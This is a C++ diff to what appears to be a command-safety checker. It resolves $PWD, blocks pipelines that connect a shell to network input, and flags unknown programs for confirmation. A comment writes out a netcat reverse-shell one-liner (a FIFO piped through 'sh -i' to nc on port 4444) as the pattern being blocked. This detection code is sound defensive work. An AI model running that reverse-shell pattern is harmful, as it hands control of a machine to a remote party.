@@ -92,6 +92,12 @@ std::optional<ExpandEnv::Value> Walker::param(const std::string& name) {
   if (m_st.positional && name == "#") return Value{std::to_string(m_st.positional->size() - 1), false, false};
   // kaicoder gives every run TMPDIR=/tmp, whatever the proposer's was.
   if (name == "TMPDIR") return Value{"/tmp", false, false};
+  // the folder the command is in: the root, joined to any `cd`
+  if (name == "PWD" && !m_ctx.root.empty() && m_st.cwd && (m_st.cwd->empty() || (*m_st.cwd)[0] != '~'))
+    return Value{m_st.cwd->empty()       ? m_ctx.root
+                 : (*m_st.cwd)[0] == '/' ? *m_st.cwd
+                                         : m_ctx.root + "/" + *m_st.cwd,
+                 false, false};
   return std::nullopt;
 }
 
@@ -141,7 +147,7 @@ std::optional<std::string> Walker::walk_pipeline(const Pipeline& p) {
   bool isolated = p.cmds.size() > 1 || p.background;
   Stdin in = m_stdin;
   LeafInfo last;
-  bool download = false, kills = false;
+  bool download = false, kills = false, shell_input = false, network = false;
   for (size_t i = 0; i < p.cmds.size(); ++i) {
     if (i > 0) {
       in = Stdin{};
@@ -157,9 +163,17 @@ std::optional<std::string> Walker::walk_pipeline(const Pipeline& p) {
     if (saved) m_st = std::move(*saved);
     // anything that downloaded while this part ran feeds what it prints
     download = download || last.download || m_downloads > downloads;
+    network = network || last.download || m_downloads > downloads;
     kills = kills || last.kills;
+    shell_input = shell_input || last.shell_input;
   }
   if (kills) check_protected_kill(p);
+  // `cat fifo | sh -i | nc host 4444 > fifo`: a shell fed by the network
+  if (shell_input && network) {
+    Call k;
+    k.text = p.cmds.empty() ? std::string() : p.cmds.front().text + " | ...";
+    find(k, RunVerdict::blocked, "connects a shell to the network (a shell runs what a network connection sends)");
+  }
   return last.output;
 }
 
@@ -241,6 +255,7 @@ LeafInfo Walker::walk_simple(const Command& cmd, const Stdin& in) {
     std::vector<Field> fs = expand(w, *this);
     for (Field& f : fs) c.argv.push_back(std::move(f));
   }
+  if (!c.argv.empty()) c.name = basename_of(c.argv[0].value);
   std::vector<std::pair<std::string, Field>> assigns;
   for (const Assign& a : cmd.assigns)
     assigns.emplace_back(a.name, single(expand(a.value, *this, false), a.value, true));
@@ -379,6 +394,8 @@ LeafInfo Walker::classify(Call& c) {
       }
     }
   }
+  // Every ask says why: a program no rule knows is not a routine one.
+  if (!c.noted && !known_program(c.name)) find(c, RunVerdict::ask, "unknown program: its effects are unknown");
   finish_leaf(c);
   return c.info;
 }
